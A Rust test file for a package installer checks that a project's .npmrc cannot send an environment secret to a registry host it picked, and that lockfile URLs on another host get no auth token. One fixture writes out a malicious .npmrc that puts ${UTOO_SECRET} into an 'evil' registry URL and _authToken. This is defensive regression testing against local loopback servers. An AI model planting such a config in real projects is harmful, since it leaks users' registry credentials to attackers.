//! Secrets and the hosts a project chooses: a project `.npmrc` cannot build a registry URL or
//! a credential from the environment (GHSA-3qhv-2rgh-x77r), and a lockfile's `resolved` on
//! another host gets no token. Each test serves a second loopback registry, the project's
//! choice, and records every request it receives.

use serde_json::json;
use utoo_test::{Pkg, Registry, TestContext};

use crate::basic_packages;

const SECRET: &str = "npm_env-SECRET-9c1d";

/// The user's `~/.npmrc` names the registry and its token through `${UTOO_SECRET}`; the
/// project's `.npmrc` tries to send that secret to `evil`, in a URL and as a token.
#[tokio::test]
async fn a_project_npmrc_cannot_send_an_environment_secret_to_a_host_it_chose() {
    let mut packages = basic_packages();
    packages.push(Pkg::new("@evil/pkg", "1.0.0"));
    let p = TestContext::new(
        &packages,
        json!({"dependencies": {"left": "^1", "@evil/pkg": "1"}}),
    )
    .await;
    let evil = Registry::start(&packages).await;
    let (good, bad) = (p.registry.url(), evil.url());
    let nerf = |url: &str| url.trim_start_matches("http:").to_owned();
    let mut options = p.options();
    options.registry = None;
    let sources = options.sources.as_mut().unwrap();
    let home = sources.home.clone().unwrap();
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(
        home.join(".npmrc"),
        format!(
            "registry={good}\n{}:_authToken=${{UTOO_SECRET}}\n",
            nerf(&good)
        ),
    )
    .unwrap();
    sources.env.insert("UTOO_SECRET".into(), SECRET.into());
    std::fs::write(
        p.root().join(".npmrc"),
        format!(
            "registry={bad}${{UTOO_SECRET}}/\n@evil:registry={bad}\n{}:_authToken=${{UTOO_SECRET}}\n",
            nerf(&bad)
        ),
    )
    .unwrap();

    let result = utoo_install::install(options).await;
    let seen = evil.authorizations();
    assert!(
        !seen.is_empty(),
        "the scoped package comes from the project's registry"
    );
    for (path, auth) in &seen {
        assert!(!path.contains(SECRET), "secret in the URL: {path}");
        assert_eq!(auth, &None, "secret as a token: {path}");
    }
    let summary = result.unwrap();
    let bearer = format!("Bearer {SECRET}");
    for (path, auth) in p.registry.authorizations() {
        assert_eq!(auth.as_deref(), Some(bearer.as_str()), "{path}");
    }
    let ignored: Vec<_> = summary
        .warnings
        .iter()
        .filter(|w| w.code.as_str() == "ECONFIGIGNORED")
        .collect();
    assert_eq!(ignored.len(), 2, "{ignored:?}");
    assert!(ignored.iter().all(|w| !w.message.contains(SECRET)));
    assert_eq!(
        p.installed_version("node_modules/@evil/pkg").as_deref(),
        Some("1.0.0")
    );
}

/// A lockfile whose `resolved` URLs point at another port of 127.0.0.1: those tarballs are
/// fetched from there, without the configured registry's token.
#[tokio::test]
async fn a_lockfile_resolved_on_another_host_gets_no_token() {
    let p = TestContext::new(&basic_packages(), json!({"dependencies": {"left": "^1"}})).await;
    let other = Registry::start(&basic_packages()).await;
    let options = crate::options_with_registry_token(&p, SECRET);
    utoo_install::install(options.clone()).await.unwrap();
    let moved = p.lockfile_text().replace(&p.registry.url(), &other.url());
    assert!(moved.contains(&other.url()));
    std::fs::write(p.root().join("package-lock.json"), moved).unwrap();
    std::fs::remove_dir_all(p.root().join("node_modules")).unwrap();
    std::fs::remove_dir_all(&p.cache).unwrap();

    utoo_install::install(options).await.unwrap();
    let seen = other.authorizations();
    assert_eq!(
        seen.len(),
        2,
        "both tarballs from the lockfile's host: {seen:?}"
    );
    for (path, auth) in &seen {
        assert_eq!(auth, &None, "{path}");
    }
    let bearer = format!("Bearer {SECRET}");
    for (path, auth) in p.registry.authorizations() {
        assert_eq!(auth.as_deref(), Some(bearer.as_str()), "{path}");
    }
    assert_eq!(
        p.installed_version("node_modules/shared").as_deref(),
        Some("1.5.0")
    );
}
